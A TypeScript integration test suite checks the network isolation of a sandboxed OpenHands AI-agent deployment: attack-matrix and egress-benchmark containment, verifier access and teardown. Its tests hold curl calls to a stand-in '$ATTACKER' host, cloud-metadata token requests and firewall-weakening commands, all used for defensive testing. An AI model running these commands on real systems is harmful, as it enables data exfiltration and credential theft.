import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { expect } from "chai";
import { goodLabel } from "../../services/verifier/test/http/service";
import { unable } from "../../twin/machines/able";
import { clientRoot } from "../../twin/machines/clients";
import type { Plan } from "../../model/plan";
import { plannedAccount } from "../../twin/aws/account";
import { limitHops, networkOf } from "../../twin/machines/network";
import { openRows } from "../../twin/matrix/valid";
import { matrixRows } from "../../twin/matrix/rows";
import { type Room, roomOf } from "../../twin/machines/room";
import type { EgressBench } from "../../twin/egressBench/bench";
import { readCases } from "../../twin/egressBench/cases";
import { startTwin, twin } from "./cli";
import { leftovers } from "./leftovers";

describe("the machine room", function () {
    const name = `test-${process.pid}`;
    const [room, other] = [roomOf(name), roomOf(`${name}-other`)];

    before(async function () {
        const reason = unable();
        if (reason !== undefined && process.env.MACHINES === "skip") return this.skip();
        if (reason !== undefined) throw new Error(`${reason}; MACHINES=skip leaves these tests out`);
        const { status, stdout, stderr } = await twin(name, "up", "--stack", "prod", "--json");
        expect(status, stderr).to.equal(0);
        up = JSON.parse(stdout) as typeof up;
    });

    after(async () => {
        await twin(name, "down");
        await twin(`${name}-other`, "down");
    });

    let up: { stack: string; seconds: number; converged: Record<string, number> };

    const sh = (place: string, script: string) => twin(name, "exec", place, "--", "sh", "-c", script);

    it("boots each planned host from its user data, and each comes by itself to hold what its bundle says", async () => {
        expect(Object.keys(up.converged).sort()).to.deep.equal(["agent", "edge", "verifier"]);
        for (const role of ["agent", "edge", "verifier"]) {
            const { stdout } = await sh(`${role}-host`, "hostname; cat /etc/isolated-openhands/config.json");
            expect(stdout.split("\n")[0]).to.equal(role);
            expect(JSON.parse(stdout.slice(role.length))).to.include({ role, stack: "prod" });
        }
    });

    it("gives a command's output and its exit status", async () => {
        const { status, stdout, stderr } = await sh("edge-host", "echo out; echo err >&2; exit 7");
        expect({ status, stdout, stderr }).to.deep.equal({ status: 7, stdout: "out\n", stderr: "err\n" });
    });

    it("lets the internet's places reach what the plan opens, and the sealed hosts nothing of the internet", async () => {
        const ask = 'curl -k -s -m 2 -o /dev/null -w "%{http_code}" https://$ATTACKER/ || true';
        const answers = ["user", "outsider", "agent-host", "verifier-host"].map(
            async (place) => (await sh(place, ask)).stdout,
        );
        expect(await Promise.all(answers)).to.deep.equal(["200", "200", "000", "000"]);
    });

    it("finds every attempt of the attack matrix blocked, and what must work at work, by what both sides saw", async () => {
        const { status, stdout } = await twin(name, "attack", "--json");
        const { rows, ok } = JSON.parse(stdout) as { rows: { id: string; ok: boolean; note: string }[]; ok: boolean };
        expect(rows.filter((row) => !row.ok)).to.deep.equal([]);
        expect({ status, ok, many: rows.length >= 180 }).to.deep.equal({ status: 0, ok: true, many: true });
    });

    it("contains at least 95 % of agent-egress-bench, without a false alarm", async function () {
        const cases = process.env.AGENT_EGRESS_BENCH;
        if (cases === undefined) {
            console.log("      AGENT_EGRESS_BENCH does not say where the cases are: not run");
            return this.skip();
        }
        const started =
            "for i in $(seq 240); do docker inspect openhands >/dev/null 2>&1 && exit 0; sleep 0.5; done; exit 1";
        expect((await sh("agent-host", started)).status).to.equal(0);
        const { status, stdout, stderr } = await twin(name, "egress-bench", "--cases", cases, "--json");
        const result = JSON.parse(stdout) as EgressBench;
        expect(result.notContained.concat(result.falseAlarms)).to.deep.equal([]);
        expect([status, result.applicable >= 60, result.allowed >= 30], stderr).to.deep.equal([0, true, true]);
        expect(result.applicable + result.allowed + result.inapplicable.length).to.equal(readCases(cases).length);
    });

    it("finds that each blocked attempt works where nothing stops it: with every layer off, or as its control", async () => {
        const open = await openRows(
            room,
            matrixRows.filter((row) => row.expect === "blocked"),
        );
        expect(open.filter((row) => !row.ok).map(({ id, note }) => `${id}: ${note}`)).to.deep.equal([]);
    });

    const packages = "/etc/isolated-openhands/packages.conf";
    const restart = "systemctl restart isolated-openhands-packages";
    const faults: readonly (readonly [fault: string, place: string, plant: string, row: string])[] = [
        [
            "a header that the package gateway passes on",
            "edge-host",
            `cp ${packages} /run/kept; sed -i 's/proxy_pass_request_headers off/proxy_pass_request_headers on/' ${packages}; ${restart}`,
            "package-header-agent-host",
        ],
        [
            "a firewall that lets everybody ask for the role's credentials",
            "verifier-host",
            "nft insert rule inet isolated_openhands output ip daddr 169.254.169.254 accept",
            "imds-user-0-verifier-host",
        ],
    ];
    for (const [fault, place, plant, row] of faults) {
        it(`finds ${fault}`, async () => {
            const planted = await sh(place, plant);
            expect(planted.status, planted.stderr).to.equal(0);
            const { status, stdout } = await twin(name, "attack", "--only", row, "--json");
            expect(status).to.equal(1);
            expect(JSON.parse(stdout).rows[0]).to.include({ id: row, observed: "works", ok: false });
        });
    }

    it("tells apart what arrived, what was stopped and what was never sent, in rows of a file", async () => {
        const rows = [
            { id: "arrives", from: "user", run: "curl -k -sS -m 3 https://$ATTACKER/$NONCE", expect: "blocked" },
            { id: "stopped", from: "agent-host", run: "curl -k -sS -m 2 https://$ATTACKER/$NONCE", expect: "blocked" },
            { id: "not-sent", from: "user", run: "no-such-program $ATTACKER $NONCE", expect: "blocked" },
            {
                id: "seen",
                from: "user",
                run: "curl -k -sS -m 3 https://$ATTACKER/$NONCE",
                expect: "works",
                sees: "GET.*$NONCE",
            },
            {
                id: "unseen",
                from: "user",
                run: "curl -k -sS -m 3 https://$ATTACKER/$NONCE",
                expect: "works",
                sees: "POST.*$NONCE",
            },
        ];
        const file = join(room.folder, "rows.json");
        writeFileSync(file, JSON.stringify(rows));
        const { status, stdout } = await twin(name, "attack", "--rows", file, "--json");
        const seen = (JSON.parse(stdout) as { rows: { observed: string; ok: boolean }[] }).rows;
        expect(seen.map(({ observed, ok }) => `${observed} ${ok}`)).to.deep.equal([
            "works false",
            "blocked true",
            "error false",
            "works true",
            "blocked false",
        ]);
        expect(status).to.equal(1);
    });

    it("serves the real label verifier behind its load balancer to who is authorized, and to nobody else", async () => {
        const label = await goodLabel();
        writeFileSync(join(clientRoot(room), "label.png"), label.image);
        writeFileSync(join(clientRoot(room), "truth.json"), label.truth);
        const settled = "for i in $(seq 240); do curl -s -m 3 http://$LABELS:443/health && break; sleep 0.5; done";
        expect(JSON.parse((await sh("user", settled)).stdout)).to.have.nested.property(
            "backends.tesseract.available",
            true,
        );
        const form = "-F image=@/label.png -F ground_truth='</truth.json' -F save_artifact=true";
        const { stdout } = await sh("user", `curl -s -m 60 ${form} http://$LABELS:443/verify`);
        expect(JSON.parse(stdout), stdout).to.include({ status: "COMPLIANT" });
        const { id } = (JSON.parse(stdout) as { artifact: { id: string } }).artifact;
        const kept = `for i in $(seq 60); do curl -s -m 5 http://$LABELS:443/artifacts | grep ${id} && break; sleep 0.5; done`;
        expect((await sh("user", kept)).stdout).to.include(id);
        expect((await sh("outsider", "curl -s -m 3 http://$LABELS:443/health; echo $?")).stdout).to.equal("28\n");
        expect(
            (await sh("user", "curl -s -m 5 http://$LABELS:443/model-status -o /dev/null -w '%{http_code}'")).stdout,
        ).to.equal("404");
    });

    it("runs the label verifier as its own user, without a capability, and its user may talk to S3 and the metadata only", async () => {
        const pid = "docker inspect --format '{{.State.Pid}}' verifier";
        const { stdout } = await sh("verifier-host", `cat /proc/$(${pid})/status; id -u verifier`);
        expect(stdout)
            .to.match(/^CapBnd:\s*0+$/m)
            .and.match(/^Uid:\s*10001\b/m)
            .and.match(/^10001$/m);
        const ask = "setpriv --reuid=10001 --regid=10001 --clear-groups curl -s -m 3 -o /dev/null -w '%{http_code} ' ";
        const places = `for url in http://169.254.169.254/ http://$EDGE:4080/ http://$EDGE:4000/; do ${ask} $url; done; true`;
        expect((await sh("verifier-host", places)).stdout).to.equal("401 000 000 ");
    });

    it("hands the metadata of an instance to the host itself, and not to a container one hop further", async () => {
        // The web proxy has no Docker, which would forward nothing of a network that is not its own.
        const token =
            "curl -s -m 2 -X PUT -H 'x-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token";
        const further = [
            "ip netns add further; ip link add in0 type veth peer name eth0 netns further",
            "ip addr add 172.29.0.1/24 dev in0; ip link set in0 up; ip -n further addr add 172.29.0.2/24 dev eth0",
            "ip -n further link set eth0 up; ip -n further route add default via 172.29.0.1",
            "echo 1 > /proc/sys/net/ipv4/ip_forward; nft delete table inet isolated_openhands",
            "nft 'add table ip out; add chain ip out post { type nat hook postrouting priority 100; }; add rule ip out post oifname eth0 masquerade'",
            `ip netns exec further ${token} || echo "none: $?"`,
        ].join("\n");
        expect((await sh("edge-host", token)).stdout).to.match(/^[\w-]{40,}$/);
        expect((await sh("edge-host", further)).stdout).to.equal("none: 28\n");
        // The answer's hops are what stops it: the connection is there, an answer without a token comes, and with a hop more the token too.
        // The host may have loaded its firewall again meanwhile.
        const opened = "nft delete table inet isolated_openhands 2>/dev/null";
        const again = (command: string) => sh("edge-host", `${opened}; ip netns exec further ${command}`);
        const status = "curl -s -m 20 -o /dev/null -w %{http_code} http://169.254.169.254/latest/meta-data/";
        expect((await again(status)).stdout).to.equal("401");
        const plan = JSON.parse(readFileSync(join(room.folder, "plan.json"), "utf8")) as Plan;
        const { instances } = plannedAccount(plan);
        await limitHops(
            networkOf(room, plan),
            instances.map((one) => ({ ...one, hopLimit: 2 })),
        );
        expect((await again(token.replace("-m 2", "-m 20"))).stdout).to.match(/^[\w-]{40,}$/);
        await limitHops(networkOf(room, plan), instances);
        expect((await again(token)).status).to.equal(28);
    });

    it("removes all of a second run that is cut off by Ctrl-C while it boots, and nothing of the first", async () => {
        const { child, ended } = startTwin(`${name}-other`, ["up", "--plan", join(room.folder, "plan.json")]);
        const booting = () => existsSync(join(other.folder, "hosts", "edge", "pid"));
        while (child.exitCode === null && !booting()) await sleep(50);
        child.kill("SIGINT");
        expect((await ended).status).to.equal(130);
        expect(leftovers(other)).to.deep.equal([]);
        expect((await sh("agent-host", "systemctl is-system-running")).stdout).to.equal("running\n");
    });

    it("leaves nothing behind when it is taken down", async () => {
        expect(kinds(room)).to.include.members(["namespace", "mount", "control", "process", "folder"]);
        expect((await twin(name, "down")).status).to.equal(0);
        expect(leftovers(room)).to.deep.equal([]);
    });

    const kinds = (of: Room) => [...new Set(leftovers(of).map((line) => line.split(" ")[0]))];
});
